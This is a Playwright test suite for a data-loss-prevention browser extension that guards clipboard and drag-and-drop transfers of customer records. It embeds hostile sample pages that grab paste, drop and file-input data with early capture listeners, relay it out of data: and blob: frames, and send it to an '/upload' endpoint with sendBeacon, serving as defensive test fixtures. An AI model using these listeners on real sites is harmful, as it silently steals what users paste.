// Copy, cut, paste, drag and drop guards in a real Chromium, with the real clipboard, against the local sites over HTTPS.
import type { CDPSession, Frame, Page } from '@playwright/test';
import { httpsTest, expect, expectLabel, demoPolicy, type Ext, type Sites } from './fixtures';

type Customer = { name: string; phone: string; email: string; address: string };

// The clipboard API needs a secure context: serve the sites over HTTPS (Chromium ignores the self-signed certificate).
const test = httpsTest;

const row = (c: Customer) => `${c.name}\t${c.phone}\t${c.email}\t${c.address}`;
const esc = (s: string) => s.replace(/[&<>]/g, (ch) => ({ '&': '&amp;', '<': '&lt;', '>': '&gt;' })[ch]!);
const PLAIN = 'Quarterly meeting moved to the large room on the third floor; bring the printed agenda and the projector cable.';

/** A classified lab page on crm.test (matches the demo policy's *://crm.test/customers* rule) with every kind of copy source. */
function labPage(cs: Customer[], iframeSrc: string) {
  const many = cs.slice(0, 60).map(row).join('\n');
  return `<!doctype html><meta charset="utf-8"><title>lab</title>
<pre id="one">${esc(row(cs[0]))}</pre>
<pre id="many">${esc(many)}</pre>
<p id="plain">${PLAIN}</p>
<input id="in" value="${esc(cs.slice(0, 60).map(row).join(' | ').replace(/\t/g, ' '))}">
<textarea id="ta">${esc(many)}</textarea>
<div id="ce" contenteditable="true">${esc(many).replace(/\n/g, '<br>')}</div>
<div id="host"></div>
<p id="innocent">Nothing to see here, just a harmless sentence about the weather today.</p>
<button id="cmd-copy">copy all (menu)</button>
<button id="page-copy">copy via page handler</button>
<div id="card" draggable="true" style="display:inline-block;padding:8px;border:1px solid #999">顧客リスト（ドラッグでメールに添付）</div>
<iframe id="frame" src="${iframeSrc}" style="width:900px;height:400px"></iframe>
<script>
  const host = document.getElementById('host').attachShadow({ mode: 'open' });
  host.innerHTML = '<pre id="inner">' + ${JSON.stringify(esc(many))} + '</pre>';
  document.getElementById('cmd-copy').addEventListener('click', () => {
    const r = document.createRange(); r.selectNodeContents(document.getElementById('many'));
    getSelection().removeAllRanges(); getSelection().addRange(r);
    document.execCommand('copy');
  });
  // A page that puts its own data on the clipboard, whatever is selected.
  let launder = false;
  document.getElementById('page-copy').addEventListener('click', () => { launder = true; document.execCommand('copy'); launder = false; });
  // A CRM card that puts the whole list on the drag itself, as drag-to-e-mail features do.
  document.getElementById('card').addEventListener('dragstart', (e) => e.dataTransfer.setData('text/plain', ${JSON.stringify(many)}));
  document.addEventListener('copy', (e) => {
    if (!launder && getSelection().toString().indexOf('harmless') < 0) return;
    e.clipboardData.setData('text/plain', ${JSON.stringify(many)});
    e.preventDefault();
  });
</script>`;
}

/** A page on an unapproved (not blocked) host: a notes app with every kind of paste target. */
const NOTES = `<!doctype html><meta charset="utf-8"><title>notes</title>
<input id="in"><textarea id="ta"></textarea><div id="ce" contenteditable="true" style="min-height:40px;border:1px solid #999"></div>
<p id="status"></p><script>document.getElementById('ta').addEventListener('paste', (e) => { document.getElementById('status').textContent = 'page saw paste of ' + e.clipboardData.getData('text/plain').length; });</script>`;

async function setup(ext: Ext, sites: Sites & { customers: Customer[] }, policy: unknown = demoPolicy()) {
  await ext.importPolicy(policy);
  await ext.context.grantPermissions(['clipboard-read', 'clipboard-write']);
  await ext.context.route(/\/\/crm\.test:\d+\/customers-lab/, (r) => r.fulfill({ contentType: 'text/html; charset=utf-8', body: labPage(sites.customers, sites.url('crm.test', '/customers')) }));
  await ext.context.route(/\/\/notes\.test:\d+\//, (r) => r.fulfill({ contentType: 'text/html; charset=utf-8', body: NOTES }));
  await ext.context.route(/\/\/share\.test:\d+\/drag-lab/, (r) =>
    r.fulfill({
      contentType: 'text/html; charset=utf-8',
      body: `<!doctype html><meta charset="utf-8"><pre id="one">${esc(row(sites.customers[0]))}</pre><textarea id="paste-text" rows="5" cols="80"></textarea><p id="plain">${PLAIN}</p>`,
    }),
  );
}

const readClipboard = (p: Page) => p.evaluate(() => navigator.clipboard.readText());
const writeClipboard = (p: Page, text: string) => p.evaluate((t) => navigator.clipboard.writeText(t), text);
const dialog = (t: Page | Frame) => t.locator('maruhi-dialog[data-maruhi-dialog=justify]');
const notice = (t: Page | Frame) => t.locator('maruhi-notice');

/** Text inside maruhi's closed shadow roots, through the DevTools protocol (page scripts cannot read it; tests can). */
async function shadowText(cdp: CDPSession, tag: string): Promise<string> {
  const { root } = await cdp.send('DOM.getDocument', { depth: -1, pierce: true });
  type N = { nodeName: string; nodeValue?: string; children?: N[]; shadowRoots?: N[]; contentDocument?: N };
  const text = (n: N): string => (n.nodeName === '#text' ? n.nodeValue ?? '' : '') + [...(n.children ?? []), ...(n.shadowRoots ?? [])].map(text).join(' ');
  const find = (n: N): N | null => {
    if (n.nodeName.toLowerCase() === tag) return n;
    for (const c of [...(n.children ?? []), ...(n.shadowRoots ?? []), ...(n.contentDocument ? [n.contentDocument] : [])]) {
      const f = find(c);
      if (f) return f;
    }
    return null;
  };
  const host = find(root as N);
  return host ? (host.shadowRoots ?? []).map(text).join(' ') : '';
}

/** This tab's events as the popup gets them ("channel decision rule" lines, plus justifications). */
async function popupEvents(ext: Ext, page: Page): Promise<string> {
  const tabId = await ext.worker.evaluate(async (url) => (await (globalThis as any).chrome.tabs.query({ url }))[0]?.id, page.url());
  const popup = await ext.page();
  await popup.goto(`chrome-extension://${ext.id}/popup.html?tab=${tabId}`);
  const state = await popup.evaluate((id) => (globalThis as any).chrome.runtime.sendMessage({ type: 'tab.state', tabId: id }), tabId);
  await popup.close();
  type E = { channel?: string; decision?: string; rule?: string; justification?: string; detection?: { people: number } };
  return (state.events as E[]).map((e) => `${e.channel} ${e.decision} ${e.rule} people=${e.detection?.people ?? '-'} ${e.justification ?? ''}`).join('\n');
}

async function labOpen(ext: Ext, sites: Sites) {
  const page = await ext.page();
  await page.goto(sites.url('crm.test', '/customers-lab'));
  await expectLabel(page, 'confidential');
  return page;
}

test('warn: a keyboard copy of one customer asks for a reason; Continue copies the original, Esc copies nothing', async ({ ext, sites }) => {
  await setup(ext, sites);
  const page = await labOpen(ext, sites);
  const cdp = await ext.context.newCDPSession(page);
  const original = row(sites.customers[0]);

  await writeClipboard(page, 'before');
  await page.locator('#one').selectText();
  await page.keyboard.press('Control+C');
  await expect(dialog(page)).toHaveAttribute('data-rule', 'copy-people-warn');
  const text = await shadowText(cdp, 'maruhi-dialog');
  expect(text).toContain('業務上の理由');
  expect(text).toContain('不正競争防止法');
  expect(text).toContain('1 人分の個人情報');
  expect(await readClipboard(page), 'nothing copied while the dialog is open').not.toContain(sites.customers[0].phone);
  // Keyboard only: focus starts in the reason field; Continue stays disabled until the reason is long enough.
  await page.keyboard.type('短い');
  await page.keyboard.press('Tab'); // Cancel
  await page.keyboard.press('Tab'); // Continue is still disabled: focus wraps to the reason field
  await page.keyboard.type('：見積書を顧客に送付するため');
  await page.keyboard.press('Tab');
  await page.keyboard.press('Tab');
  await page.keyboard.press('Enter');
  await expect(dialog(page)).toHaveCount(0);
  expect((await readClipboard(page)).trim()).toBe(original);

  // Cancel (Esc): the clipboard gets nothing from the page.
  await writeClipboard(page, 'before');
  await page.locator('#one').selectText();
  await page.keyboard.press('Control+C');
  await expect(dialog(page)).toBeVisible();
  await page.keyboard.press('Escape');
  await expect(dialog(page)).toHaveCount(0);
  expect(await readClipboard(page)).not.toContain(sites.customers[0].phone);

  const events = await popupEvents(ext, page);
  expect(events).toContain('copy warn copy-people-warn people=1 短い：見積書を顧客に送付するため');
});

test('block: 60 customers never reach the clipboard, however they are copied; a notice names the rule and the law', async ({ ext, sites }) => {
  await setup(ext, sites);
  const page = await labOpen(ext, sites);
  const cdp = await ext.context.newCDPSession(page);
  const phone = sites.customers[5].phone;
  const expectBlocked = async (how: string) => {
    const clip = await readClipboard(page);
    expect(clip, how).toContain('[maruhi]');
    expect(clip, how).not.toContain(phone);
    await expect(notice(page), how).toHaveAttribute('data-maruhi-notice', 'copy-bulk-block');
    await page.evaluate(() => document.querySelector('maruhi-notice')?.remove());
  };

  await page.locator('#many').selectText();
  await page.keyboard.press('Control+C');
  await expect(notice(page)).toBeVisible();
  const text = await shadowText(cdp, 'maruhi-notice');
  expect(text).toContain('不正競争防止法');
  expect(text).toContain('個人情報保護法');
  expect(text).toContain('例外を申請');
  expect(text).toContain('copy-bulk-block');
  await expectBlocked('keyboard copy');

  await page.locator('#cmd-copy').click();
  await expectBlocked('context-menu style document.execCommand("copy")');

  await page.locator('#in').selectText();
  await page.keyboard.press('Control+C');
  await expectBlocked('input');

  const before = await page.locator('#ta').inputValue();
  await page.locator('#ta').selectText();
  await page.keyboard.press('Control+X');
  await expectBlocked('cut in a textarea');
  expect(await page.locator('#ta').inputValue(), 'a blocked cut deletes nothing').toBe(before);

  await page.locator('#ce').selectText();
  await page.keyboard.press('Control+C');
  await expectBlocked('contenteditable');

  await page.locator('#inner').selectText();
  await page.keyboard.press('Control+C');
  await expectBlocked('shadow DOM');

  // The page's own copy handler swaps a harmless selection for customer data: the guard judges what the page put there.
  await page.locator('#innocent').selectText();
  await page.keyboard.press('Control+C');
  await expectBlocked('page handler replacing the selection');
  await page.locator('#page-copy').click();
  await expectBlocked('page handler with nothing selected');

  // A classified iframe (the customer list) guards its own copies.
  const frame = page.frameLocator('#frame');
  await expect(frame.locator('tr[data-id]').first()).toBeVisible();
  await writeClipboard(page, 'before');
  await frame.locator('#customers').click();
  await frame.locator('#customers').selectText();
  await page.keyboard.press('Control+C');
  const clip = await readClipboard(page);
  expect(clip).toContain('[maruhi]');
  await expect(frame.locator('maruhi-notice')).toHaveAttribute('data-maruhi-notice', 'copy-bulk-block');

  // Text without customer data copies freely (audited on a classified page).
  await page.locator('#plain').click();
  await page.locator('#plain').selectText();
  await page.keyboard.press('Control+C');
  expect((await readClipboard(page)).trim()).toBe(PLAIN);
  const events = await popupEvents(ext, page);
  expect(events).toContain('copy block copy-bulk-block');
  expect(events).toContain('cut block copy-bulk-block');
  expect(events).toContain('copy audit copy-audit');
});

test('paste: customer data is blocked on the blocked share site, warned on an unapproved one, welcome on the approved partner', async ({ ext, sites }) => {
  await setup(ext, sites);
  const page = await ext.page();
  const one = row(sites.customers[1]);

  await page.goto(sites.url('share.test', '/'));
  await writeClipboard(page, one);
  await page.locator('#paste-text').click();
  await page.keyboard.press('Control+V');
  await expect(notice(page)).toHaveAttribute('data-maruhi-notice', 'paste-blocked');
  await expect(page.locator('#paste-text')).toHaveValue('');
  await page.locator('#paste-rich').click();
  await page.keyboard.press('Control+V');
  await expect(page.locator('#paste-rich')).toHaveText('');
  await expect(page.locator('#status')).not.toContainText('pasted into');

  // Unapproved but not blocked: a reason lets it through, into inputs, textareas and editors alike.
  await page.goto(sites.url('notes.test', '/'));
  await writeClipboard(page, one);
  await page.locator('#ta').click();
  await page.keyboard.press('Control+V');
  await expect(dialog(page)).toHaveAttribute('data-rule', 'paste-unapproved');
  await page.keyboard.type('取引先への連絡のため必要');
  await page.keyboard.press('Control+Enter');
  await expect(page.locator('#ta')).toHaveValue(one);
  await expect(page.locator('#status'), "the page's own paste handler still runs").toHaveText(`page saw paste of ${one.length}`);
  await page.locator('#in').click();
  await page.keyboard.press('Control+V');
  await expect(dialog(page)).toBeVisible();
  await page.keyboard.press('Escape');
  await expect(page.locator('#in')).toHaveValue('');
  await page.locator('#ce').click();
  await page.keyboard.press('Control+V');
  await expect(dialog(page)).toBeVisible();
  await page.keyboard.type('取引先への連絡のため必要');
  await page.keyboard.press('Control+Enter');
  await expect(page.locator('#ce')).toContainText(sites.customers[1].phone);

  // Approved destination: the paste goes in untouched, no dialog.
  await page.goto(sites.url('partner.test', '/'));
  await writeClipboard(page, one);
  await page.locator('#paste-text').click();
  await page.keyboard.press('Control+V');
  await expect(page.locator('#paste-text')).toHaveValue(one);
  await expect(dialog(page)).toHaveCount(0);
  // Non-customer text pastes freely on the unapproved site too.
  await page.goto(sites.url('notes.test', '/'));
  await writeClipboard(page, PLAIN);
  await page.locator('#ta').click();
  await page.keyboard.press('Control+V');
  await expect(page.locator('#ta')).toHaveValue(PLAIN);
  await expect(dialog(page)).toHaveCount(0);
});

test('lineage: text copied from a classified page is recognised when pasted elsewhere, even lightly edited', async ({ ext, sites }) => {
  await setup(ext, sites);
  const page = await labOpen(ext, sites);
  await page.locator('#plain').selectText();
  await page.keyboard.press('Control+C');
  expect((await readClipboard(page)).trim()).toBe(PLAIN);

  await page.goto(sites.url('notes.test', '/'));
  const edited = PLAIN.replace('third floor', '3rd floor').replace('printed agenda', 'agenda');
  await writeClipboard(page, edited);
  await page.locator('#ta').click();
  await page.keyboard.press('Control+V');
  await expect(dialog(page)).toHaveAttribute('data-rule', 'paste-lineage');
  const text = await shadowText(await ext.context.newCDPSession(page), 'maruhi-dialog');
  expect(text).toContain('コピーした内容');
  await page.keyboard.type('議事録の共有のため必要です');
  await page.keyboard.press('Control+Enter');
  await expect(page.locator('#ta')).toHaveValue(edited);

  // Unrelated text of the same length is not traced.
  await page.locator('#ta').fill('');
  const other = 'The garden club meets every second Sunday to swap seedlings, share compost tips and plan the spring flower show.';
  await writeClipboard(page, other);
  await page.keyboard.press('Control+V');
  await expect(page.locator('#ta')).toHaveValue(other);
  await expect(dialog(page)).toHaveCount(0);
  const events = await popupEvents(ext, page);
  expect(events).toContain('paste warn paste-lineage');
});

test('drag and drop: customer rows cannot be dragged off a classified page, nor dropped on the blocked site', async ({ ext, sites }) => {
  await setup(ext, sites);
  const page = await labOpen(ext, sites);
  // Dragging 60 customers out of the classified page is blocked at the start of the drag.
  await page.locator('#many').selectText();
  // Press on the selected text itself (the first line), so the mouse drags the selection.
  await page.locator('#many').dragTo(page.locator('#plain'), { sourcePosition: { x: 20, y: 6 } });
  await expect(notice(page)).toHaveAttribute('data-maruhi-notice', 'copy-bulk-block');
  expect(await popupEvents(ext, page)).toMatch(/drag block copy-bulk-block people=[5-9]\d/);

  // A draggable card whose own dragstart handler puts 60 customers on the drag: judged after the page's handler.
  await page.locator('maruhi-notice').evaluate((n) => n.remove());
  await page.evaluate(() => getSelection()?.removeAllRanges());
  await page.locator('#card').dragTo(page.locator('#innocent'));
  await expect(notice(page)).toHaveAttribute('data-maruhi-notice', 'copy-bulk-block');
  // one event for the selection above, one for the card
  expect((await popupEvents(ext, page)).match(/drag block copy-bulk-block people=\d+/g)).toHaveLength(2);

  // Dropping customer data into a text box on the blocked share site is blocked there; plain text drops freely.
  await page.goto(sites.url('share.test', '/drag-lab'));
  const target = page.locator('#paste-text');
  await page.locator('#one').selectText();
  await page.locator('#one').dragTo(target, { sourcePosition: { x: 20, y: 6 } });
  await expect(notice(page)).toHaveAttribute('data-maruhi-notice', 'paste-blocked');
  await expect(target).toHaveValue('');
  await page.locator('#plain').selectText();
  await page.locator('#plain').dragTo(target, { sourcePosition: { x: 20, y: 6 } });
  await expect(target).toHaveValue(PLAIN);
  expect(await popupEvents(ext, page)).toContain('drop block paste-blocked people=1');
});

/** A hostile destination: its own capture listeners on window and document, registered as early as a page can, read
 * pastes and drops and stop everyone else's listeners; it beacons whatever it gets. */
const HOSTILE = `<!doctype html><meta charset="utf-8"><title>hostile</title>
<script>
  const stole = (how, s) => { if (!s) return; document.getElementById('got').textContent += how + ' ' + s.length + ';'; navigator.sendBeacon('/upload', s); };
  for (const t of [window, document]) {
    t.addEventListener('paste', (e) => { stole('paste', e.clipboardData.getData('text/plain')); e.stopImmediatePropagation(); }, true);
    t.addEventListener('drop', (e) => { stole('drop', e.dataTransfer.getData('text/plain')); e.stopImmediatePropagation(); }, true);
    t.addEventListener('beforeinput', (e) => { stole('input', e.dataTransfer && e.dataTransfer.getData('text/plain')); }, true);
  }
  document.addEventListener('input', (e) => e.target.id === 'ta' && stole('value', e.target.value), true);
  window.addEventListener('change', (e) => { e.stopImmediatePropagation(); const f = e.target.files && e.target.files[0]; if (f) f.text().then((s) => stole('file', s)); }, true);
</script>
<textarea id="ta" rows="5" cols="80"></textarea><input type="file" id="file"><p id="got"></p>`;

test('a hostile destination that listens first and stops propagation still never sees blocked customer data', async ({ ext, sites }) => {
  await setup(ext, sites);
  await ext.context.route(/\/\/share\.test:\d+\/hostile/, (r) => r.fulfill({ contentType: 'text/html; charset=utf-8', body: HOSTILE }));
  const page = await ext.page();
  const many = sites.customers.slice(0, 20).map(row).join('\n');
  await page.goto(sites.url('share.test', '/hostile'));
  await writeClipboard(page, many);
  await page.locator('#ta').click();
  await page.keyboard.press('Control+V');
  await expect(notice(page)).toHaveAttribute('data-maruhi-notice', 'paste-blocked');
  await expect(page.locator('#ta')).toHaveValue('');
  expect(await page.locator('#got').textContent()).toBe('');
  // A file of customers chosen in the page's file input: the page's change listener never gets it.
  await page.locator('#file').setInputFiles({ name: 'customers.tsv', mimeType: 'text/tab-separated-values', buffer: Buffer.from(many) });
  await expect(notice(page)).toHaveAttribute('data-maruhi-notice', /.+/);
  await expect.poll(() => page.locator('#file').evaluate((i: HTMLInputElement) => i.files?.length ?? 0)).toBe(0);
  expect(await page.locator('#got').textContent()).toBe('');
  // Harmless text still pastes, and the page's listeners see it as usual.
  await writeClipboard(page, PLAIN);
  await page.locator('#ta').click();
  await page.keyboard.press('Control+V');
  await expect(page.locator('#got')).toContainText(`paste ${PLAIN.length};`);
  expect(sites.requests.filter((r) => r.host === 'share.test' && r.method === 'POST').every((r) => r.bodyBytes === PLAIN.length || r.bodyBytes < 200)).toBe(true);
});

/** A hostile destination that takes pastes in frames content scripts skip unless told: data: and blob: documents. */
const OPAQUE_FRAMES = `<!doctype html><meta charset="utf-8"><title>frames</title><p id="got"></p><script>
  const inner = '<textarea id="ta" rows="4" cols="60"></textarea><script>document.getElementById("ta").addEventListener("input", (e) => parent.postMessage(e.target.value, "*"))<' + '/script>';
  addEventListener('message', (e) => { if (typeof e.data !== 'string') return; document.getElementById('got').textContent += e.data.length + ';'; navigator.sendBeacon('/upload', e.data); });
  for (const [id, src] of [['data', 'data:text/html;charset=utf-8,' + encodeURIComponent(inner)], ['blob', URL.createObjectURL(new Blob([inner], { type: 'text/html' }))]]) {
    const f = document.createElement('iframe'); f.id = id; f.src = src; f.style.cssText = 'width:600px;height:120px'; document.documentElement.append(f);
  }
</script>`;

test('pastes into data: and blob: frames a hostile page creates are guarded like the page itself', async ({ ext, sites }) => {
  await setup(ext, sites);
  await ext.context.route(/\/\/share\.test:\d+\/frames/, (r) => r.fulfill({ contentType: 'text/html; charset=utf-8', body: OPAQUE_FRAMES }));
  const page = await ext.page();
  const many = sites.customers.slice(0, 20).map(row).join('\n');
  await page.goto(sites.url('share.test', '/frames'));
  await writeClipboard(page, many);
  for (const id of ['blob', 'data']) {
    const frame = page.frameLocator(`#${id}`);
    await frame.locator('#ta').click();
    await page.keyboard.press('Control+V');
    await expect(frame.locator('maruhi-notice'), id).toHaveAttribute('data-maruhi-notice', 'paste-blocked');
    await expect(frame.locator('#ta'), id).toHaveValue('');
  }
  expect(await page.locator('#got').textContent()).toBe('');
});

test('a page holding the clipboard-read permission cannot take customers with navigator.clipboard.readText / read', async ({ ext, sites }) => {
  await setup(ext, sites);
  const page = await ext.page();
  await page.goto(sites.url('share.test', '/'));
  const many = sites.customers.slice(0, 20).map(row).join('\n');
  const read = () =>
    page.evaluate(async () => {
      const r: string[] = [];
      for (const how of ['readText', 'read'] as const) {
        try {
          const v = how === 'readText' ? await navigator.clipboard.readText() : await (await (await navigator.clipboard.read())[0].getType('text/plain')).text();
          r.push(`${how} ${v.length}`);
        } catch (e) {
          r.push(`${how} ${(e as DOMException).name}`);
        }
      }
      return r;
    });
  await writeClipboard(page, many);
  expect(await read()).toEqual(['readText NotAllowedError', 'read NotAllowedError']);
  await expect(notice(page).first()).toHaveAttribute('data-maruhi-notice', 'paste-blocked');
  expect(await popupEvents(ext, page)).toContain('paste block');
  // Harmless text reads as usual.
  await writeClipboard(page, PLAIN);
  expect(await read()).toEqual([`readText ${PLAIN.length}`, `read ${PLAIN.length}`]);
});

test("the page's own copy buttons (navigator.clipboard.writeText / write) follow the same rules as Ctrl+C", async ({ ext, sites }) => {
  await setup(ext, sites);
  const page = await labOpen(ext, sites);
  const one = row(sites.customers[0]);
  const many = sites.customers.slice(0, 60).map(row).join('\n');
  const apiWrite = (how: 'writeText' | 'write', text: string) =>
    page.evaluate(
      ([how, text]) => {
        const p =
          how === 'writeText'
            ? navigator.clipboard.writeText(text)
            : navigator.clipboard.write([new ClipboardItem({ 'text/plain': new Blob([text], { type: 'text/plain' }) })]);
        return p.then(
          () => 'written',
          (e: DOMException) => `${e.name}`,
        );
      },
      [how, text] as const,
    );
  await writeClipboard(page, 'before');

  // 60 customers: refused like the browser refuses a write, with the notice; the clipboard keeps what it had.
  for (const how of ['writeText', 'write'] as const) {
    expect(await apiWrite(how, many)).toBe('NotAllowedError');
    await expect(notice(page)).toHaveAttribute('data-maruhi-notice', 'copy-bulk-block');
    expect(await readClipboard(page)).toBe('before');
  }

  // One customer: the reason dialog; Continue lets the page's write through.
  const pending = apiWrite('writeText', one);
  await expect(dialog(page)).toHaveAttribute('data-rule', 'copy-people-warn');
  await page.keyboard.type('請求書の宛先確認のため');
  await page.keyboard.press('Tab');
  await page.keyboard.press('Tab');
  await page.keyboard.press('Enter');
  expect(await pending).toBe('written');
  expect(await readClipboard(page)).toBe(one);

  // Harmless text: written at once.
  expect(await apiWrite('writeText', PLAIN)).toBe('written');
  expect(await readClipboard(page)).toBe(PLAIN);

  const events = await popupEvents(ext, page);
  expect(events).toContain('copy block copy-bulk-block people=60');
  expect(events).toContain('copy warn copy-people-warn people=1 請求書の宛先確認のため');
});
